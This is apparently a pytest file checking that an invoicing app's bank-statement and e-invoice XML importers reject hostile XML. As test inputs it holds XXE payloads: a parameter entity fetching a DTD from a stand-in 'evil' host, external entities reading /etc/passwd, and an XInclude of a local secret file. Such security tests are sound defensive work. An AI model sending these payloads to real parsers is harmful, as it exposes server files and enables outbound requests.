"""Hostile XML in a bank statement (CAMT.053) or an e-invoice (UBL): the importers'
own tests cover the billion laughs and an external entity (tests/unit/importers); these
add the other ways in: a parameter entity that fetches an external DTD (out-of-band
XXE), an external DTD alone, and an XInclude that would pull in a local file. Each is
refused, or read without ever touching the file it names."""

from __future__ import annotations

from pathlib import Path

import pytest

from debiteur_desk.importers import camt053, ubl
from debiteur_desk.importers.statement import ImportRefused

DATA = Path(__file__).parents[1] / "data"
CAMT = (DATA / "statements" / "camt053-2026.xml").read_bytes()
UBL = (DATA / "invoices" / "ubl" / "invoice-2026-0062.xml").read_bytes()
READERS = {"camt053": (camt053.read, CAMT), "ubl": (ubl.read_ubl, UBL)}


def with_doctype(document: bytes, doctype: str) -> bytes:
    """``document`` with ``doctype`` put before its root element."""
    head, _, body = document.partition(b"?>")
    return head + b"?>\n" + doctype.encode() + body


HOSTILE_DOCTYPES = {
    "parameter-entity": (
        '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>'
    ),
    "external-dtd": '<!DOCTYPE r SYSTEM "file:///etc/passwd">',
    "public-dtd": '<!DOCTYPE r PUBLIC "-//X//Y" "http://example.invalid/x.dtd">',
    "lowercase-spacing": '<! DOCTYPE r [<!ENTITY  x SYSTEM "file:///etc/passwd">]>',
}


@pytest.mark.parametrize("reader", sorted(READERS))
@pytest.mark.parametrize("doctype", sorted(HOSTILE_DOCTYPES))
def test_a_dtd_in_any_form_is_refused(reader, doctype):
    read, document = READERS[reader]
    with pytest.raises(ImportRefused) as caught:
        read(with_doctype(document, HOSTILE_DOCTYPES[doctype]))
    assert caught.value.code in ("import_xml_unsafe", "import_xml_broken")


@pytest.mark.parametrize("reader", sorted(READERS))
def test_an_xinclude_is_never_followed(reader, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("GEHEIM-12345")
    read, document = READERS[reader]
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" '
        'parse="text"/>'
    ).encode()
    # Right after the root element's start tag.
    start = document.index(b">", document.index(b"<", document.index(b"?>") + 2)) + 1
    hostile = document[:start] + include + document[start:]
    try:
        result = read(hostile)
    except ImportRefused:
        return  # refused outright is fine too
    assert "GEHEIM-12345" not in repr(result)
